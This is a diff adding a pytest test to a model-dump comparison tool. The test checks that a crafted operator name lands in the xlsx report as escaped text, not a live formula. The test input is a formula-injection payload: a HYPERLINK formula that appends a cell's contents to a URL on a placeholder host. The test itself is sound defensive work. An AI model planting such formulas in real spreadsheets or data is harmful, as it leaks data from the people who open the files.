@@ -126,3 +126,23 @@ def test_mindspore_replay_resolves_only_its_compute_table():
     assert ms_replay.resolve_callable("Tensor.add") is not None
     assert callable(ms_replay.resolve_callable("Functional.gelu"))
     assert mindspore.ops.gelu is not None
+
+
+def test_a_crafted_name_lands_in_the_xlsx_report_as_text_not_a_formula(tmp_path):
+    """A dump's names go into compare's xlsx report; one beginning with ``=`` must not become a live formula."""
+    openpyxl = pytest.importorskip("openpyxl")
+    from engines.compare.engine import run_compare
+    from tests.test_compare_engine_msprobe import job, leaf, write_dump
+
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"open").0.forward'
+    for side, value in (("npu", 1.0), ("bench", 2.0)):
+        write_dump(tmp_path / side, {evil: {"input_args": [leaf(stats=(value, 0.0, 0.5, 1.0))], "input_kwargs": {},
+                                            "output": [leaf(stats=(value, 0.0, 0.5, 1.0))]},
+                                     "Functional.relu.0.forward": {"input_args": [leaf(stats=(1.0, 0, 0.5, 1))],
+                                                                   "input_kwargs": {},
+                                                                   "output": [leaf(stats=(1.0, 0, 0.5, 1))]}})
+    out = run_compare(job(tmp_path / "npu", tmp_path / "bench", tmp_path / "out", formats=["xlsx"]), None)
+    sheet = openpyxl.load_workbook(out.files["xlsx"]).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") for c in cells)
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
